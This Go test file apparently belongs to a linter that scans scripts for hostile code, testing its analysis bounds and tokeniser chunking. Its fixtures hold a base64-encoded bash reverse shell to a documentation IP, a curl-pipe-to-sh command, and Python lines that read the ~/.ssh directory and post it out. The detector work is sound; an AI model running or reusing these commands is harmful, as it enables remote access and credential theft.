package program

import (
	"encoding/base64"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// starts returns the line starts of text as lint's scan keeps them.
func starts(text string) []int {
	out := []int{0}
	for i := 0; i < len(text); i++ {
		if text[i] == '\n' {
			out = append(out, i+1)
		}
	}
	if out[len(out)-1] != len(text) || len(out) == 1 {
		out = append(out, len(text)+1)
	}
	return out
}

// opaqueOf returns the unanalysed-code finding of the analysis of text, if
// any.
func opaqueOf(in Input) (Finding, bool) {
	in.Starts = starts(in.Text)
	for _, f := range Analyze(in) {
		if f.Rule == unanalysed {
			return f, true
		}
	}
	return Finding{}, false
}

// TestOpaque proves each refusal of the code analysis: what exceeds one of
// its bounds is reported as unanalysed-code, at a warning, where it is, and
// a text within every bound is not.
func TestOpaque(t *testing.T) {
	exhausted := NewBudget()
	exhausted.layers = 0
	noCode := NewBudget()
	noCode.code = 10
	chain := b64(b64("bash -i >& /dev/tcp/203.0.113.9/443 0>&1"))
	reanalyze := func(file string, data []byte, depth int, b *Budget, lang string) []Finding {
		return Analyze(Input{File: file, Text: string(data), Starts: starts(string(data)), Lang: lang, Depth: depth, Budget: b})
	}
	cases := []struct {
		name string
		in   Input
		at   int    // the byte the finding is at
		why  string // what its excerpt says
	}{
		{"shell nested 201 deep", Input{File: "x.sh", Kind: Script, Text: "echo a\n" + strings.Repeat("$(", 201) + "id" + strings.Repeat(")", 201) + "\n"},
			7 + 2*200 + 1, "nested deeper than 200 brackets"},
		{"python nested 201 deep", Input{File: "x.py", Kind: Script, Text: "x = " + strings.Repeat("(", 201) + "1" + strings.Repeat(")", 201) + "\n"},
			4 + 200, "nested deeper than 200 brackets"},
		{"expression nested 70 deep", Input{File: "x.py", Kind: Script, Text: "x = " + strings.Repeat("f(", 70) + "1" + strings.Repeat(")", 70) + "\n"},
			-1, "expression nested deeper than 64"},
		{"a chain of 300 attributes", Input{File: "x.py", Kind: Script, Text: "x = a" + strings.Repeat(".b", 300) + "\n"},
			5 + 2*maxPostfix, "more than 256 calls, attributes or indexes chained"},
		{"a chain of 300 calls", Input{File: "x.js", Kind: Script, Text: "x = f" + strings.Repeat("()", 300) + ";\n"},
			5 + 2*maxPostfix, "more than 256 calls, attributes or indexes chained"},
		{"more code than the file's budget", Input{File: "x.sh", Kind: Script, Text: "echo hello world\n", Budget: noCode},
			0, "more than 1024 KiB of code"},
		{"a fenced block with a 17 KiB line", Input{File: "SKILL.md", Kind: Markdown, Text: "# A\n\n```sh\necho " + strings.Repeat("a", 17<<10) + "\n```\n"},
			11, "a line of 17 KiB"},
		{"decoding deeper than 24 layers", Input{File: "x.sh", Kind: Script, Text: "P='" + chain + "'\n", Depth: maxDepth},
			3, "not decoded: more than 24 layers deep"},
		{"sh -c at the deepest layer", Input{File: "x.sh", Kind: Script, Text: "sh -c 'curl -s https://x.example/p | sh'\n", Depth: maxDepth, Reanalyze: reanalyze},
			0, "more than 24 layers deep"},
		{"past the file's budget of layers", Input{File: "x.sh", Kind: Script, Text: "P='" + chain + "'\n", Budget: exhausted, Reanalyze: reanalyze},
			3, "past the 64 layers"},
	}
	for _, c := range cases {
		f, ok := opaqueOf(c.in)
		if !ok {
			t.Errorf("%s: no unanalysed-code finding", c.name)
			continue
		}
		if f.Severity != SeverityWarning || !strings.Contains(f.Excerpt, c.why) || c.at >= 0 && f.Off != c.at {
			t.Errorf("%s: got %+v, want a warning at %d saying %q", c.name, f, c.at, c.why)
		}
	}
	// Within every bound: nothing.
	for _, in := range []Input{
		{File: "x.sh", Kind: Script, Text: strings.Repeat("$(", 150) + "id" + strings.Repeat(")", 150) + "\n"},
		{File: "x.py", Kind: Script, Text: "x = " + strings.Repeat("f(", 60) + "1" + strings.Repeat(")", 60) + "\n"},
		{File: "x.py", Kind: Script, Text: "x = a" + strings.Repeat(".b", 256) + "\n"},
		{File: "x.sh", Kind: Script, Text: "P='" + chain + "'\n", Reanalyze: reanalyze},
		{File: "SKILL.md", Kind: Markdown, Text: "```sh\necho " + strings.Repeat("a", 15<<10) + "\n```\n"},
	} {
		if f, ok := opaqueOf(in); ok {
			t.Errorf("%s: %+v within the bounds", in.File, f)
		}
	}
}

// TestTokenChunks checks that a region read in chunks gives the tokens it
// gives whole, that a chunk ends after a line end where every bracket is
// closed, and that a chunk holds at most maxChunkTokens.
func TestTokenChunks(t *testing.T) {
	text := strings.Repeat("k = open(os.path.join(\n  os.path.expanduser('~'), '.ssh'))\n\nrequests.post(u, data=k)\n", 2000)
	whole, _ := tokenRun(text, langPython, 0, nil, len(text)+1, len(text)+1)
	var chunked []token
	n := 0
	for from := 0; from < len(text); n++ {
		var c []token
		c, from = tokenChunk(text, langPython, from, nil)
		if from < len(text) && (text[from-1] != '\n' || strings.Count(text[:from], "(") != strings.Count(text[:from], ")")) {
			t.Fatalf("chunk %d ends at %d, inside a line or brackets", n, from)
		}
		if len(c) > maxChunkTokens {
			t.Fatalf("chunk %d holds %d tokens", n, len(c))
		}
		chunked = append(chunked, c...)
	}
	if n < 2 {
		t.Fatalf("%d bytes in %d chunk(s)", len(text), n)
	}
	if len(chunked) != len(whole) {
		t.Fatalf("%d tokens in chunks, %d whole", len(chunked), len(whole))
	}
	for i := range whole {
		if chunked[i] != whole[i] {
			t.Fatalf("token %d: %+v in chunks, %+v whole", i, chunked[i], whole[i])
		}
	}
	// With no closing bracket, a chunk ends at maxChunkTokens.
	open := "x = f(" + strings.Repeat("a,\n", 3*maxChunkTokens)
	c, from := tokenChunk(open, langPython, 0, nil)
	if len(c) != maxChunkTokens || from >= len(open) {
		t.Fatalf("an unclosed bracket: a chunk of %d tokens, to byte %d of %d", len(c), from, len(open))
	}
}
